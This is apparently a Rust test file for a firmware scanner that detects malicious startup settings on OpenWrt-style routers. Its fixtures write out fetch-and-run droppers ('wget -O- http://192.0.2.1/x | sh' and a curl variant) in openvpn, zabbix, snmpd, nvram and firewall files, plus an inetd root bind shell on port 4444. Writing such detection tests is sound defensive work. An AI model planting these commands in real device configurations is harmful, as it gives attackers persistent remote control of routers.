//! Configuration that runs programs, through the real binary: trees with a setting each, and their healthy twins.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    missing_docs
)]

#[path = "common/scan.rs"]
mod scan;

use scan::{Outcome, Tree, scan};

const CHECKS: &str = "config-include,startup-dropper,startup-volatile";

fn look(tree: &Tree) -> Outcome {
    scan(["--root", tree.path().to_str().unwrap(), "--only", CHECKS])
}

/// `check severity line path` of every finding.
fn said(tree: &Tree) -> Vec<String> {
    look(tree).short_with_paths()
}

/// An OpenWrt with a list of packages, so that somebody vouches.
fn openwrt() -> Tree {
    Tree::healthy()
        .file(
            "usr/lib/opkg/info/base.list",
            "/usr/bin/php-cgi\n/usr/sbin/odhcpd-update\n/usr/lib/dnsmasq/dhcp-script.sh\n/bin/busybox\n",
        )
        .file("usr/lib/dnsmasq/dhcp-script.sh", "#!/bin/sh\n. /lib/functions.sh\n")
        .file("usr/sbin/odhcpd-update", "#!/bin/sh\n")
        .file("usr/bin/php-cgi", "#!/bin/sh\n")
        .file("etc/firewall.user", "# iptables -A x\n")
        .file("etc/dnsmasq.conf", "dhcp-script=/usr/lib/dnsmasq/dhcp-script.sh\nconf-dir=/tmp/dnsmasq.d\n")
}

const FIREWALL: &str = "config defaults\n\toption syn_flood '1'\n\nconfig include\n\toption path '/etc/firewall.user'\n\n\
    config include 'mwan3'\n\toption type 'script'\n\toption path '/var/etc/mwan3.include'\n\toption reload '1'\n\n\
    config include 'rules'\n\toption path '/tmp/rules.nft'\n\toption type 'nftables'\n";

#[test]
fn settings_that_run_what_does_not_belong_here() {
    let include = |text: &str| format!("{FIREWALL}\nconfig include\n\toption path '{text}'\n");
    for (file, text, expected) in [
        ("etc/config/firewall", include("/tmp/x.sh"), "config-include suspicious 17"),
        ("etc/config/firewall", include("/etc/.x/y"), "config-include suspicious 17"),
        ("etc/config/dhcp", "c dnsmasq;o dhcpscript \"/tmp/x\"\n".to_owned(), "config-include suspicious 1"),
        ("etc/dnsmasq.d/x", "# x\ndhcp-script=/dev/shm/x\n".to_owned(), "config-include suspicious 2"),
        (
            "etc/config/openvpn",
            "config openvpn a\n option up '/bin/sh -c \"wget -O- http://192.0.2.1/x | sh\"'\n".to_owned(),
            "startup-dropper infected 2",
        ),
        (
            "etc/zabbix_agentd.conf",
            "UserParameter=a,wget -O- http://192.0.2.1/x | sh\n".to_owned(),
            "startup-dropper infected 1",
        ),
        (
            "etc/inetd.conf",
            "4444 stream tcp nowait root /bin/sh sh -i\n".to_owned(),
            "config-include suspicious 1",
        ),
        (
            "etc/snmp/snmpd.conf",
            "rocommunity x\nsh a wget -O- http://192.0.2.1/x | sh\n".to_owned(),
            "startup-dropper infected 2",
        ),
        ("nvram.txt", "a_b=c\nrc_startup=\ncd /tmp\n./x &\n".to_owned(), "startup-volatile suspicious 4"),
        (
            "tmp/nvram.bin",
            "FLSH\0\0\0\0rc_firewall=wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x\0".to_owned(),
            "startup-dropper infected 5",
        ),
        (
            "jffs/nvram/script_usbmount",
            "\nwget -qO- http://192.0.2.1/x | sh\n".to_owned(),
            "startup-dropper infected 2",
        ),
    ] {
        let tree = openwrt().file(file, &text);
        let all = said(&tree);
        assert!(all.iter().any(|row| *row == format!("{expected} /{file}")), "{file}: {text}: {all:?}");
    }
}

#[test]
fn scripts_that_a_setting_names_are_read_as_startup_files() {
    let tree = openwrt()
        .file("etc/config/firewall", FIREWALL)
        .file("etc/firewall.user", "iptables -A x\nwget -O- http://192.0.2.1/x | sh\n")
        .file("etc/config/ddns", "config service a\n\toption update_script '/root/up.sh'\n")
        .file("root/up.sh", "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n");
    assert_eq!(
        said(&tree),
        ["startup-dropper infected 2 /etc/firewall.user", "startup-dropper infected 2 /root/up.sh"]
    );
}

#[test]
fn a_program_that_no_package_has() {
    let tree = openwrt()
        .file("usr/sbin/odhcpd-updat", "#!/bin/sh\n")
        .file("etc/config/dhcp", "config odhcpd 'odhcpd'\n\toption leasetrigger '/usr/sbin/odhcpd-updat'\n");
    assert_eq!(said(&tree), ["config-include suspicious 2 /etc/config/dhcp"]);
}

#[test]
fn healthy_settings_are_silent() {
    let tree = openwrt()
        .file("etc/config/firewall", FIREWALL)
        .file("etc/config/dhcp", "config odhcpd 'odhcpd'\n\toption leasetrigger '/usr/sbin/odhcpd-update'\n")
        .file("etc/config/uhttpd", "config uhttpd main\n\tlist interpreter '.php=/usr/bin/php-cgi'\n")
        .file("etc/config/openvpn", "config openvpn a\n\toption enabled 0\n\toption up '/tmp/x'\n")
        .file("etc/inetd.conf", "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n")
        .file("etc/zabbix_agentd.conf", "UserParameter=net.list,ls /sys/class/net | tr '\\n' ' '\n")
        .file("etc/ppp/options", "#debug\nlogfile /dev/null\nnoipdefault\n")
        .file("nvram.txt", "rc_startup=echo 1 > /proc/sys/x\nwl0_ssid=it's | me\nscript_init=\nlan_x=1\n");
    let outcome = look(&tree);
    assert_eq!(said(&tree), Vec::<String>::new());
    assert_eq!(outcome.looked("config-include"), ("yes", ""));
    assert_eq!(outcome.looked("startup-dropper"), ("yes", ""));
}

#[test]
fn what_the_image_has_is_silent() {
    let text = "dhcp-script=/tmp/vendor/lease\n";
    let tree = Tree::healthy().file("etc/dnsmasq.conf", text).file("rom/etc/dnsmasq.conf", text);
    assert_eq!(said(&tree), Vec::<String>::new());
}

#[test]
fn a_pipe_a_long_line_and_a_circle_are_survived_and_said() {
    let tree = openwrt().fifo("etc/config/firewall").link("etc/config/dhcp", "dhcp").fifo("nvram.txt");
    let outcome = look(&tree);
    assert_eq!(outcome.looked("config-include").0, "partly");
    assert_eq!(outcome.looked("startup-dropper").0, "partly");
    let tree = openwrt()
        .file("etc/dnsmasq.d/x", vec![b'x'; 70_000])
        .file("etc/config/dhcp", b"config a\n o b '\xff\0");
    let (looked, why) = (look(&tree).looked("config-include").0.to_owned(), look(&tree));
    assert_eq!(looked, "partly", "{:?}", why.looked("config-include"));
    assert_eq!(look(&Tree::healthy()).looked("config-include").0, "na");
}
